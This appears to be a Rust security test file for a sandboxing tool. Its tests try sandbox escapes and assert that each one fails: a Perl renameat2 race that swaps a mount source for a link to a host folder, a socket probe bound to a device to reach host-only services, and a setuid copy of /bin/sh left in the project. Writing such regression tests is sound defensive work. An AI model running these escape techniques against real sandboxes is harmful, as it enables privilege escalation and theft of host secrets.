//! Attacks found while reviewing the nspawn backend (root). None of them is nspawn's own: each
//! runs under every backend it applies to, and is worst as root (the sandbox's files and binds
//! are then root's on the host).

use std::net::{IpAddr, Ipv4Addr, TcpListener};
use std::os::unix::fs::PermissionsExt;
use std::time::{Duration, Instant};

use super::escape_net::sh_net;
use super::harness::{local_ipv4s, not_applicable, skip, wait_for, Backend, Case, SECRET};

/// `renameat2`'s number, for perl's `syscall`.
fn renameat2_nr() -> u32 {
    if cfg!(target_arch = "aarch64") {
        276
    } else {
        316
    }
}

/// A user mount of a folder in the project is checked for links when the run starts, then
/// bound by path. A second sandbox of the same project flips that folder with a link to a host
/// folder (`renameat2(RENAME_EXCHANGE)`, atomic) until one start sees the folder at the check
/// and the link at the mount: that sandbox then has the link's target mounted (read-write, as
/// the mount was). Run as root (bwrap or nspawn), the link leads to `/etc`, and the sandbox
/// writes `/etc/shadow`.
#[test]
fn escape_nspawn_a_concurrent_sandbox_cannot_swap_a_mount_source_for_a_link() {
    let Some(c) = Case::escape() else { return };
    if c.backend == Backend::Podman {
        // Podman binds by path (docs/security.md: one podman sandbox per untrusted project).
        not_applicable("podman binds every source by path");
        return;
    }
    let data = c.project.join("data");
    c.write(&data.join("file"), "project data\n");
    // The racer: `data` and `lnk` (a link to the host home, which holds secret.txt)
    // exchanged over and over; `racing` says it has started.
    let racer = format!(
        r#"my ($d, $l) = ("data", "lnk");
chdir "/workspace" or die;
symlink("{home}", $l) or die "symlink: $!";
open(my $f, ">", "racing"); close $f;
my $end = time + $ARGV[0];
while (time < $end) {{ syscall({nr}, -100, $d, -100, $l, 2) == 0 or die "renameat2: $!"; }}
syscall({nr}, -100, $d, -100, $l, 2) if -l $d;
"#,
        home = c.home.display(),
        nr = renameat2_nr(),
    );
    c.write(&c.project.join("race.pl"), &racer);
    // A qemu sandbox takes seconds to start under TCG (more on a loaded machine): a longer
    // race, fewer starts needed.
    let (race_secs, window, wanted) = if c.backend == Backend::Qemu {
        ("120", Duration::from_secs(100), 5)
    } else {
        ("30", Duration::from_secs(25), 40)
    };
    let racer = c.spawn(&[
        "run",
        "--network",
        "none",
        "--keep-git-changes",
        "--",
        "perl",
        "/workspace/race.pl",
        race_secs,
    ]);
    assert!(
        wait_for(Duration::from_secs(20), || c
            .project
            .join("racing")
            .exists()),
        "the racing sandbox did not start"
    );
    let mount = format!("{}:/data:rw", data.display());
    let end = Instant::now() + window;
    let (mut started, mut leaked) = (0, None);
    while Instant::now() < end && started < wanted {
        let out = c.sh_with(
            &["--network", "none", "--mount", &mount],
            "cat /data/secret.txt 2>/dev/null; echo started",
        );
        if out.stdout.contains("started") {
            started += 1;
        }
        if out.stdout.contains(SECRET) {
            leaked = Some(out);
            break;
        }
    }
    let raced = racer.finish_within(Duration::from_secs(150));
    assert!(
        leaked.is_none(),
        "a mount of {} became a mount of the host folder a concurrent sandbox linked it to:\n{}",
        data.display(),
        leaked.map(|o| o.to_string()).unwrap_or_default()
    );
    assert!(
        started > 0,
        "no sandbox started meanwhile; the racer:\n{raced}"
    );
}

/// The host's IPv6 addresses except loopback, from `/proc/net/if_inet6`.
fn local_ipv6s() -> Vec<std::net::Ipv6Addr> {
    let text = std::fs::read_to_string("/proc/net/if_inet6").unwrap_or_default();
    text.lines()
        .filter_map(|l| l.split_whitespace().next())
        .filter_map(|hex| u128::from_str_radix(hex, 16).ok())
        .map(std::net::Ipv6Addr::from)
        .filter(|a| !a.is_loopback())
        .collect()
}

/// The `prohibit` routes that keep the host's own addresses out of reach match only a lookup
/// without an output device. A socket bound to the sandbox's interface (`SO_BINDTODEVICE`, no
/// capability needed) or a link-local address with a scope id skips them, and pasta delivers
/// the connection to the host's own address: a service the host bound to 0.0.0.0 or `::` (a
/// Docker bridge's address, the host's link-local address) is reached.
#[test]
fn escape_nspawn_host_addresses_stay_out_of_reach_through_a_bound_device() {
    let Some(c) = Case::escape() else { return };
    // Dual-stack where the host has IPv6 (one listener for both families), else IPv4 only.
    let listener = TcpListener::bind("[::]:0")
        .or_else(|_| TcpListener::bind("0.0.0.0:0"))
        .unwrap();
    let port = listener.local_addr().unwrap().port();
    let mut ips: Vec<IpAddr> = local_ipv4s(&std::fs::read_to_string("/proc/net/fib_trie").unwrap())
        .into_iter()
        .filter(|ip| ip.octets()[..2] != [10, 213] && *ip != Ipv4Addr::LOCALHOST)
        .map(IpAddr::V4)
        .collect();
    if listener.local_addr().unwrap().is_ipv6() {
        ips.extend(local_ipv6s().into_iter().map(IpAddr::V6));
    }
    if ips.is_empty() {
        skip("the host has no non-loopback address");
        return;
    }
    let list: Vec<String> = ips.iter().map(ToString::to_string).collect();
    // Every address through every interface but lo: bound to it, and (IPv6) with its index
    // as the scope id.
    let probe = format!(
        r#"use Socket qw(:all);
my $port = {port};
# /proc, not /sys (not every backend mounts /sys): names from net/dev, indexes from if_inet6.
open(my $d, "<", "/proc/net/dev") or die "net/dev: $!";
my @ifs = grep {{ $_ ne "lo" }} map {{ /^\s*([^:|\s]+):/ ? $1 : () }} <$d>;
my %idx;
if (open(my $f, "<", "/proc/net/if_inet6")) {{ for (<$f>) {{ my @c = split; $idx{{$c[5]}} = hex $c[1]; }} }}
for my $if (@ifs) {{
  my $idx = $idx{{$if}} // 0;
  for my $a (qw({addrs})) {{
    my ($fam, $sa) = $a =~ /:/
      ? (AF_INET6, pack_sockaddr_in6($port, inet_pton(AF_INET6, $a), $idx))
      : (AF_INET, pack_sockaddr_in($port, inet_aton($a)));
    socket(my $s, $fam, SOCK_STREAM, 0) or die "socket: $!";
    setsockopt($s, SOL_SOCKET, 25, $if);
    my $ok = eval {{ local $SIG{{ALRM}} = sub {{ die "timeout\n" }}; alarm 3; my $r = connect($s, $sa); alarm 0; $r }};
    print "CONNECTED $a via $if\n" if $ok;
    close $s;
  }}
}}
print "probed\n";
"#,
        addrs = list.join(" "),
    );
    c.write(&c.project.join("probe.pl"), &probe);
    let out = sh_net(&c, "open", "perl /workspace/probe.pl");
    assert!(
        out.ok().contains("probed") && !out.stdout.contains("CONNECTED"),
        "a host service on [::]:{port} was reached through the sandbox's interface:\n{out}"
    );
    listener.set_nonblocking(true).unwrap();
    assert!(
        listener.accept().is_err(),
        "the host's listener got a connection from the sandbox"
    );
}

/// The sandbox user owns what it creates in the project, and an owner may set the set-user-ID
/// bit without any capability: the file keeps it on the host. Under a root wrapix (nspawn,
/// bubblewrap as root) that is a set-user-ID-root program, and any local user who can reach
/// the project runs it as root; under any wrapix, one that runs as the project's owner.
#[test]
fn escape_nspawn_no_set_id_program_is_left_in_the_project() {
    let Some(c) = Case::escape() else { return };
    let out = c.sh("cp /bin/sh /workspace/suid && chmod u+s /workspace/suid; \
         cp /bin/sh /workspace/sgid && chmod g+s /workspace/sgid; \
         cp /bin/sh /workspace/both && chmod 6755 /workspace/both; echo done");
    assert!(out.stdout.contains("done"), "{out}");
    for name in ["suid", "sgid", "both"] {
        let mode = std::fs::metadata(c.project.join(name))
            .map(|m| m.permissions().mode())
            .unwrap_or(0);
        assert_eq!(
            mode & 0o6000,
            0,
            "{name} was left on the host with mode {mode:o}: a set-ID program of the sandbox \
             user's\n{out}"
        );
    }
}
